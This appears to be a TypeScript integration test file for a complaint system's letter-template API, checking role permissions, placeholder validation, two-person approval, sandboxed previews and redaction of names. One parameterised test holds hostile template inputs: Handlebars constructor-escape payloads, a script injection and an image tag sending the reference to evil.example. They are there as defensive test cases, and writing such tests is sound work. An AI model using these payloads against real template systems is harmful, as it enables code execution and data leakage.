import { Casework } from '#casework/casework.service.js';
import { FollowPublishedRules, leadTime } from '#casework/follow-published-rules.js';
import { PublishedRules } from '#casework/published-rules.js';
import { Health } from '#platform/health.js';
import { HouseLetters } from '#rules/house-letters.js';
import type { Registration } from '#workflows/complaint/complaint.events.js';
import { testDatabase, testRedis } from '../../../../test/support/test-stores.js';
import type { Answer, Person } from '../api.story.js';
import { registration, RunningApi } from '../api.story.js';

type Texts = Readonly<Record<'en' | 'zh-CN', string>>;

describe('The wording of letters, over HTTP', () => {
  const stores = { database: testDatabase(), redis: testRedis() };
  let api: RunningApi;
  let author: Person;
  let second: Person;
  let lead: Person;
  let auditor: Person;
  let agent: Person;

  beforeAll(async () => {
    api = await RunningApi.start(stores);
    [author, second] = [await api.person('administrator'), await api.person('director')];
    [lead, auditor, agent] = [await api.person('lead'), await api.person('auditor'), await api.person('agent')];
  });
  afterAll(() => api.stop());

  const at = (name: string, more = ''): string => `/api/letter-templates/${name}${more}`;
  const textsOf = async (name: string): Promise<Texts> => (await lead.get(at(name))).body['texts'] as Texts;
  const begun = (name: string): Promise<Answer> =>
    author.post('/api/rule-drafts', { kind: 'letter', name, reason: '更亲切' });
  const act = (who: Person, what: string, { body }: Answer, more: object = {}): Promise<Answer> =>
    who.post(`/api/rule-drafts/${String(body['id'])}/${what}`, { revision: body['revision'], ...more });
  const written = (draft: Answer, texts: Partial<Texts>): Promise<Answer> =>
    act(author, 'values', draft, { values: Object.entries(texts).map(([path, value]) => ({ path, value })) });
  /** Approved by the second person, and counting. */
  const published = async (name: string, texts: Texts): Promise<Answer> => {
    const proposed = await act(author, 'propose', await written(await begun(name), texts), { reason: '更亲切' });
    const approved = await act(second, 'approve', proposed);
    expect(approved.status).toBe(200);
    api.time.turn(leadTime);
    return approved;
  };
  const reworded = async (name: string, en: string, chinese: string): Promise<Texts> => {
    const texts = await textsOf(name);
    return { en: `${texts.en.trimEnd()}\n${en}\n`, 'zh-CN': `${texts['zh-CN'].trimEnd()}\n${chinese}\n` };
  };

  it('is read by leads and above and by auditors, with what each letter owes, to whom, and by which names it says so', async () => {
    for (const person of [author, second, lead, auditor])
      expect((await person.get('/api/letter-templates')).status).toBe(200);
    expect((await agent.get('/api/letter-templates')).status).toBe(403);
    expect((await lead.get(at('nothing'))).status).toBe(404);
    const { items } = (await lead.get('/api/letter-templates')).body as { items: { name: string; isPart: boolean }[] };
    expect(items.filter(({ isPart }) => !isPart)).toHaveLength(14);
    expect(items.find(({ name }) => name === 'part-closing')).toMatchObject({ isPart: true, version: 1, owes: [] });
    const { body } = await auditor.get(at('finalResponse'));
    expect(body).toMatchObject({
      version: 1,
      refused: [],
      duties: expect.arrayContaining([
        {
          duty: 'decision',
          called: { en: 'the decision', 'zh-CN': '处理决定' },
          by: expect.any(Array) as unknown,
          names: ['decision'],
        },
      ]) as unknown,
      related: expect.arrayContaining([{ name: 'part-closing', title: { en: 'Closing', 'zh-CN': '落款' } }]) as unknown,
      versions: [{ version: 1, isInForce: true }],
    });
  });

  it('is judged at its line as files are, and cannot be handed in while it leaves out what is owed', async () => {
    const draft = await begun('survey');
    const wrong = await written(draft, {
      en: '<title>Hi</title>\n<p>{{ref}} {{reff}}\n',
      'zh-CN': '<title>您好</title>\n<p>{{ref}}</p>',
    });
    expect(wrong.body['problems']).toEqual([
      {
        path: 'en',
        line: 2,
        words: {
          en: expect.stringContaining('"reff" not defined') as string,
          'zh-CN': '“reff”未定义：此处没有这个名称',
        },
      },
    ]);
    const unsaid = await written(wrong, { en: '<title>Hi</title><p>How was it?</p>' });
    expect(unsaid.body['problems']).toMatchObject([
      { path: 'en', words: { 'zh-CN': expect.stringMatching(/^未能始终写明投诉编号/) as string } },
    ]);
    expect((await act(author, 'propose', unsaid, { reason: 'x' })).body).toMatchObject({ code: 'rule.has-problems' });
    const tried = await author.post(`/api/rule-drafts/${String(unsaid.body['id'])}/trials`, {});
    expect(tried.body).toMatchObject({ status: 409 });
    expect((await act(author, 'drop', unsaid, { reason: '不需要' })).body).toMatchObject({ state: 'dropped' });
    expect(await textsOf('survey')).toEqual((await author.get(at('survey'))).body['texts']);
  });

  it.each([
    '{{constructor.constructor "return process"}}',
    '{{#with this as |k|}}{{lookup k "constructor"}}{{/with}}',
    '{{{ref}}}<script>alert(1)</script>',
    '<img src="https://evil.example/?{{ref}}">',
  ])('never runs, loads or shows what is none of a letter: %s', async (evil) => {
    const draft = await written(await begun('reminder'), { en: `<title>Hi</title><p>{{ref}} ${evil}</p>` });
    expect(draft.body['problems']).not.toEqual([]);
    const asked = `locale=en&draftId=${String(draft.body['id'])}`;
    expect((await author.get(at('reminder', `/preview?${asked}`))).body).toMatchObject({
      mistakes: expect.arrayContaining([expect.objectContaining({ locale: 'en', line: 1 })]) as unknown,
    });
    expect((await author.get(at('reminder', `/preview/page?${asked}`))).body).toMatchObject({
      code: 'rule.has-problems',
    });
    await act(author, 'drop', draft, { reason: 'x' });
  });

  it('counts for letters written after a second person has approved, in every process; the one before comes back as a draft', async () => {
    const before = await textsOf('holding');
    const texts = await reworded('holding', '<p>Thank you for your patience.</p>', '<p>感谢您的耐心等待。</p>');
    const proposed = await act(author, 'propose', await written(await begun('holding'), texts), { reason: '更亲切' });
    expect((await act(author, 'approve', proposed)).body).toMatchObject({ because: 'own-draft' });
    expect((await act(auditor, 'approve', proposed)).status).toBe(403);
    expect((await act(second, 'approve', proposed)).status).toBe(200);
    expect((await lead.get(at('holding'))).body).toMatchObject({ version: 1, coming: { version: 2 } });
    api.time.turn(leadTime);
    expect((await lead.get(at('holding'))).body).toMatchObject({
      version: 2,
      texts,
      publication: { draftedBy: [author.id], approvedBy: second.id, reason: '更亲切', sequence: 1 },
      versions: [
        { version: 2, isInForce: true },
        { version: 1, isInForce: false, texts: before },
      ],
    });
    const started = await RunningApi.start(stores);
    try {
      expect(started.application.get(HouseLetters, { strict: false }).newest.template('holding')).toEqual({
        version: 2,
        texts,
      });
    } finally {
      await started.application.close();
    }
    await published('holding', before);
    expect((await lead.get(at('holding'))).body).toMatchObject({ version: 3, texts: before });
  });

  it('stays as it was, and health says so, where what was published does not hold by now', async () => {
    const book = api.application.get(PublishedRules, { strict: false });
    // As another release, or a looser policy, may have let it through.
    const content = JSON.stringify({
      en: '<title>Hi</title><p>Soon.</p>',
      'zh-CN': '<title>您好</title><p>{{ref}}</p>',
    });
    const now = api.time.now();
    const of = { kind: 'letter', name: 'referral', version: 2, from: now, publishedAt: now } as const;
    const who = { draftedBy: [author.id], approvedBy: second.id, reason: 'x' };
    await book.add({ ...of, ...who, content }, (await book.all()).at(-1));
    await api.application.get(FollowPublishedRules, { strict: false }).look();
    expect((await lead.get(at('referral'))).body).toMatchObject({
      version: 1,
      refused: [{ version: 2, because: { en: expect.stringContaining('does not always say') as string } }],
    });
    expect(await api.application.get(Health, { strict: false }).problems()).toEqual([
      expect.stringMatching(/^letter referral@2: it does not always say .*未能始终写明/),
    ]);
    await published(
      'referral',
      await textsOf('referral').then(({ en, 'zh-CN': chinese }) => ({ en: `${en}<p>Soon.</p>`, 'zh-CN': chinese })),
    );
    expect((await lead.get(at('referral'))).body).toMatchObject({ version: 3, refused: [] });
    expect(await api.application.get(Health, { strict: false }).problems()).toEqual([]);
  });

  it('is shown as the mail itself, in a page that runs and loads nothing, as text, and on paper; a draft only to those who see drafts', async () => {
    const draft = await written(
      await begun('rejection'),
      await reworded('rejection', '<p>Warmly.</p>', '<p>祝好。</p>'),
    );
    const asked = `locale=en&sample=full&draftId=${String(draft.body['id'])}`;
    const page = await auditor.get(at('rejection', `/preview/page?${asked}`));
    expect(page).toMatchObject({
      status: 200,
      headers: {
        'content-type': 'text/html; charset=utf-8',
        'content-security-policy': expect.stringMatching(/^sandbox .*default-src 'none'/) as string,
      },
    });
    expect((await auditor.get(at('rejection', `/preview?${asked}`))).body).toMatchObject({
      letter: 'rejection',
      subject: '[C-2026-000123-7] We cannot take on your complaint',
      text: expect.stringContaining('Warmly.') as string,
      mistakes: [],
    });
    expect((await auditor.get(at('rejection', `/preview/pdf?${asked}`))).headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-disposition': expect.stringContaining('rejection-en.pdf') as string,
    });
    expect((await lead.get(at('rejection', `/preview?${asked}`))).status).toBe(403);
    expect((await lead.get(at('rejection', '/preview?locale=en'))).body['text']).not.toContain('Warmly.');
    expect((await lead.get(at('part-closing', '/preview?locale=zh-CN'))).body).toMatchObject({
      letter: 'receiptNotice',
    });
  });

  it('is shown on a real complaint to whoever may read it, which is recorded; neither a name nor the private link is given away', async () => {
    const casework = api.application.get(Casework, { strict: false });
    const by = { kind: 'staff', id: agent.id, roles: ['agent'] } as const;
    const told = { ...registration(api.time), type: 'complaint.registered', id: 'e-wang', at: api.time.now(), by };
    await casework.open('c-wang', told as unknown as Registration, { contact: { name: '王小明' } });
    const { ref } = await casework.get('c-wang');
    const shown = await auditor.get(at('progressUpdate', `/complaints/${ref}?locale=zh-CN`));
    expect(shown.body).toMatchObject({
      ref,
      text: expect.stringMatching(/尊敬的王\*\*\*[\s\S]*complaints\.example\.org\/t\/1a2b/) as string,
    });
    expect((await lead.get(at('progressUpdate', `/complaints/${ref}?locale=zh-CN`))).body['text']).toContain('王小明');
    const { body } = await auditor.get(`/api/read-log?ref=${ref}&by=${auditor.id}`);
    expect(body['items']).toMatchObject([{ what: 'complaint', ref, by: auditor.id }]);
    await api.found('far', 'another brand');
    const stranger = await api.personIn({ teams: ['far'] }, 'lead');
    expect((await stranger.get(at('progressUpdate', `/complaints/${ref}?locale=en`))).status).toBe(404);
  });
});
